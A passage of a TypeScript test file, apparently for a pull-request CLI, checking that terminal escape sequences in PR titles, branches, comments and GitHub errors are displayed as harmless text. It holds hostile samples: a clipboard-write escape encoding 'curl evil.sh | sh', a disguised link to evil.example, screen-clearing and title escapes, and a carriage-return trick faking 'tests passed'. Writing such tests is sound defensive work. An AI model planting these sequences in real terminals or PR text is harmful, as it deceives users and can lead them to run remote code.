  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
  link: '\u001b]8;;https://evil.example/\u001b\\the docs\u001b]8;;\u001b\\',
  bell: '\u0007',
  csi: '\u009b2J',
  overwrite: 'tests failed\rtests passed',
}
const HOSTILE = Object.values(ATTACK).join(' ')
// Every control character but newline and tab (C0, DEL, C1): none may reach the terminal.
// eslint-disable-next-line no-control-regex -- the test looks for exactly these
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

function hostileComment(state: 'working' | 'success', runUrl: string): string {
  return [
    `### ✅ async-pr finished ${ATTACK.title}${ATTACK.csi}`,
    '',
    `Summary from the agent: ${HOSTILE}`,
    '',
    '**Checklist**',
    '',
    `- [x] Security review: passed ${ATTACK.link}`,
    `- [${state === 'working' ? ' ' : 'x'}] Ship it ${ATTACK.clipboard}${ATTACK.bell}`,
    '',
    renderState({ v: 1, state, runUrl, sessionId: `s${ATTACK.clear}` }),
  ].join('\n')
}

function expectClean(result: CliResult) {
  expect(result.stdout).not.toMatch(CONTROL)
  expect(result.stderr).not.toMatch(CONTROL)
}

describe('text others wrote reaches the terminal without control characters', () => {
  async function hostileWorld() {
    world = await createCliWorld()
    const w = world
    // Git refuses C0 and DEL in branch names, not C1.
    const number = await w.seedPull({
      title: `Add a greeting ${HOSTILE}`,
      branch: 'async/greeting\u009b2J',
    })
    const runUrl = `${w.git.url}/${w.fullName}/actions/runs/1`
    return { w, number, runUrl }
  }

  /** The hostile world with the run ended, and a command on it (the bundled CLI). */
  async function endedRun(args: string[]) {
    const { w, number, runUrl } = await hostileWorld()
    postStatus(w, number, hostileComment('success', runUrl))
    const result = await w.spawnCli([...args, '--repo', w.fullName]).done
    return { w, number, result }
  }

  it('status shows the escapes as text', async () => {
    const { number, result } = await endedRun(['status', '1'])
    expect(result.exitCode).toBe(0)
    expectClean(result)
    expect(result.stdout).toContain(
      `#${number} Add a greeting \\x1b[2J\\x1b[3J\\x1b[H \\x1b]0;owned\\x07`,
    )
    expect(result.stdout).toContain('async/greeting\\x9b2J → main')
    expect(result.stdout).toContain('[x] Security review: passed \\x1b]8;;https://evil.example/')
  })

  it('result shows them as text', async () => {
    const { result } = await endedRun(['result', '1'])
    expect(result.exitCode).toBe(0)
    expectClean(result)
    expect(result.stdout).toContain('tests failed\\rtests passed')
    expect(result.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
  })

  it('list shows them as text, one line per PR', async () => {
    const { w, number, runUrl } = await hostileWorld()
    postStatus(w, number, hostileComment('success', runUrl))
    // A title that would add a line of its own to the list.
    await w.seedPull({ title: 'Tidy\n#9  done (success)  async/x  Forged', branch: 'async/tidy' })
    const result = await w.spawnCli(['list', '--repo', w.fullName]).done
    expect(result.exitCode).toBe(0)
    expectClean(result)
    expect(result.stdout).toContain('async/greeting\\x9b2J')
    expect(result.stdout).toContain('Tidy\\n#9  done (success)')
    expect(result.stdout.trim().split('\n')).toHaveLength(2)
  })

  it('--json of status, result and list keeps the exact text, escaped', async () => {
    const { w, number, runUrl } = await hostileWorld()
    postStatus(w, number, hostileComment('success', runUrl))
    for (const args of [['status', String(number)], ['result', String(number)], ['list']]) {
      const asJson = await w.spawnCli([...args, '--json', '--repo', w.fullName]).done
      expect(asJson.exitCode).toBe(0)
      expectClean(asJson)
      const parsed = JSON.parse(asJson.stdout)
      const snapshot = Array.isArray(parsed) ? parsed[0] : parsed
      expect(snapshot.title).toBe(`Add a greeting ${HOSTILE}`)
      expect(snapshot.branch).toBe('async/greeting\u009b2J')
      expect(snapshot.sessionId).toBe(`s${ATTACK.clear}`)
      expect(snapshot.checklist[1].text).toBe(`Ship it ${ATTACK.clipboard}${ATTACK.bell}`)
      if (args[0] === 'result') expect(snapshot.body).toContain(ATTACK.overwrite)
    }
  })

  /** watch from "working" to the end, which comes 600 ms later. */
  async function watchRun(extra: string[], how: 'spawn' | 'terminal') {
    const { w, number, runUrl } = await hostileWorld()
    postStatus(w, number, hostileComment('working', runUrl))
    const finishing = setTimeout(
      () => postStatus(w, number, hostileComment('success', runUrl)),
      600,
    )
    const args = ['watch', String(number), '--interval', '0.1s', '--repo', w.fullName, ...extra]
    const result = how === 'spawn' ? await w.spawnCli(args).done : await w.cli(args, { tty: true })
    clearTimeout(finishing)
    return { number, result }
  }

  it('watch, one line per change, shows them as text', async () => {
    const { result } = await watchRun([], 'spawn')
    expect(result.exitCode).toBe(0)
    expectClean(result)
    expect(result.stderr).toMatch(/ working: 1\/2 done, now: Ship it \\x1b\]52;c;/)
    expect(result.stdout).toContain('Summary from the agent: \\x1b[2J')
  })

  it('watch on a terminal redraws with its own escapes and no others', async () => {
    const { number, result } = await watchRun([], 'terminal')
    expect(result.exitCode).toBe(0)
    // eslint-disable-next-line no-control-regex -- the redraw's own escapes
    const redraw = /\u001b\[\d+A\r\u001b\[0J/g
    expect(result.stderr).toMatch(redraw)
    expect(result.stderr.replace(redraw, '')).not.toMatch(CONTROL)
    expect(result.stderr).toContain(`#${number} Add a greeting \\x1b[2J`)
    expect(result.stdout).not.toMatch(CONTROL)
  })

  it('watch --json keeps the exact text, escaped', async () => {
    const { result } = await watchRun(['--json'], 'spawn')
    expect(result.exitCode).toBe(0)
    expectClean(result)
    expect(JSON.parse(result.stdout).body).toContain(ATTACK.clipboard)
  })

  it('what GitHub answers in an error, too', async () => {
    const { w, number } = await hostileWorld()
    w.emulator.faults.add({
      method: 'GET',
      path: '/repos/{owner}/{repo}/pulls/{pull_number}',
      status: 422,
      body: { message: `Validation Failed ${HOSTILE}` },
    })
    const status = await w.spawnCli(['status', String(number), '--repo', w.fullName]).done
    expect(status.exitCode).toBe(2)
    expectClean(status)
    expect(status.stderr).toContain(
      'GitHub refused to read pull request #1 (422 Validation Failed \\x1b[2J',
    )
  })
})
